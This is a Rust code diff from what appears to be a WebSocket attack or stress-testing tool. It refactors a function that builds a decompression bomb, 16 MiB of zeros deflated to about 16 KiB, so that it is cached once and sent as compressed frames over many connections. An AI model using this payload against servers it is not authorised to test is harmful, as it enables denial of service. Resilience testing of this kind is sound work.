@@ -82,6 +82,10 @@ pub fn run(args: AttackArgs) -> anyhow::Result<()> {
     }
     let args = Arc::new(args);
     let stop = Arc::new(AtomicBool::new(false));
+    if args.kind == AttackKind::Garbage {
+        // Made here: compressing needs more stack than an attacker thread has.
+        deflate_bomb();
+    }
     let started = Instant::now();
     let mut handles = Vec::new();
     for i in 0..args.connections {
@@ -369,7 +373,7 @@ fn garbage(
         let mut frame = Vec::new();
         let mask = (rng.next() as u32).to_be_bytes();
         // RSV1 (0x40): a compressed text message.
-        wsproto::encode_frame(&mut frame, 0x40 | 0x1, &deflate_bomb(), mask);
+        wsproto::encode_frame(&mut frame, 0x40 | 0x1, deflate_bomb(), mask);
         if write_all_or_closed(stream, &frame, stop, sent) {
             return Some(());
         }
@@ -388,15 +392,19 @@ fn garbage(
 }
 
 /// Raw deflate of 16 MiB of zeros (what a permessage-deflate message
-/// carries): about 16 KiB on the wire.
-fn deflate_bomb() -> Vec<u8> {
-    use std::io::Write as _;
-    let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
-    let zeros = [0u8; 64 * 1024];
-    for _ in 0..256 {
-        e.write_all(&zeros).expect("writing to a Vec");
-    }
-    e.finish().expect("writing to a Vec")
+/// carries): about 16 KiB on the wire, made once, by [`run`] before the
+/// attacker threads start (they run on 64 KiB stacks).
+fn deflate_bomb() -> &'static [u8] {
+    static BOMB: std::sync::OnceLock<Vec<u8>> = std::sync::OnceLock::new();
+    BOMB.get_or_init(|| {
+        use std::io::Write as _;
+        let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
+        let zeros = vec![0u8; 64 * 1024];
+        for _ in 0..256 {
+            e.write_all(&zeros).expect("writing to a Vec");
+        }
+        e.finish().expect("writing to a Vec")
+    })
 }
 
 fn nonreader(
